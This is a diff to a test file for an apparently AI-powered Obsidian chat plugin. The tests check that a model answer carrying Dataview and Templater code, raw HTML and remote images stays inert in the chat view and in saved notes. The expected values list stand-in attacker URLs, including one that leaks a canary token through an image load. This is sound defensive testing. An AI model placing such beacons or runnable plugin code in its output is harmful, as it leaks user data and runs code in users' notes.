@@ -11,7 +11,8 @@ import { chatViewPerTest, sendMessage, until } from '../support/chat-view-harnes
 
 // Issue 25 item 1: an answer carrying what Dataview and Templater run, raw HTML and a remote
 // image. The fake host's stand-ins for those plugins are registered as the real ones register
-// them (tools/fake-obsidian/community); the first test shows they do run this text in a user's
+// them (tools/fake-obsidian/community), and the fake renders raw HTML live as Obsidian does
+// (`rawHtml`); the first test shows they do run this text in a user's
 // note, the others that they never see it in a runnable form from Glassbox.
 
 const ANSWER = [
@@ -46,7 +47,7 @@ async function openChat(): Promise<{ app: App; templater: FakeTemplaterPlugin; r
   let store: ConversationStore | null = null;
   const conversations: ConversationSaver = { save: (conversation) => store!.save(conversation) };
   const answer = scenario().turn((t) => t.text(ANSWER, { chunkChars: 24 }));
-  const opened = await chat.open({ scenarios: { answer }, model: 'answer', extra: { conversations } });
+  const opened = await chat.open({ scenarios: { answer }, model: 'answer', extra: { conversations }, rawHtml: true });
   store = new ConversationStore({ vault: opened.app.vault as never, metadataCache: opened.app.metadataCache as never, folder: () => 'Glassbox/Conversations' });
   const templater = await installPlugins(opened.app);
   return { app: opened.app, templater, root: opened.view.contentEl, view: opened.view };
@@ -57,14 +58,18 @@ afterEach(() => document.body.replaceChildren());
 
 describe('model text that other plugins would run', () => {
   it('is a real trap: in a user note the same text runs Dataview and Templater and loads the image', async () => {
-    const app = createFakeApp();
+    const app = createFakeApp({ rawHtml: true });
     const templater = await installPlugins(app);
     await app.vault.create('Pasted answer.md', ANSWER);
     await templater.settled();
     const el = document.body.createDiv();
     await renderReadingView(app, { path: 'Pasted answer.md', el });
     expect(runs()).toEqual(['templater-on-create', 'templater-on-create', 'dataviewjs-block', 'dataview-inline-js', 'dataview-inline-query', 'templater-dynamic']);
-    expect(el.querySelector('img')?.getAttribute('src')).toBe('https://attacker.example/leak?d=hostile-canary-7731');
+    expect([...remoteImages(el)].map((element) => element.getAttribute('src'))).toEqual([
+      'https://attacker.example/frame',
+      'https://attacker.example/raw.png',
+      'https://attacker.example/leak?d=hostile-canary-7731',
+    ]);
   });
 
   it('runs nothing in the chat view, while streaming, on the note it creates and once that note is its source; the image waits for a click', async () => {
@@ -100,7 +105,7 @@ describe('model text that other plugins would run', () => {
     expect(note).not.toContain(ANSWER);
 
     // The note opened in a vault with Glassbox, Dataview and Templater.
-    const app = createFakeApp({ files: { [path]: note } });
+    const app = createFakeApp({ files: { [path]: note }, rawHtml: true });
     await installPlugins(app);
     await app.loadPlugin(GlassboxPlugin, manifestJson);
     clearPluginRuns();
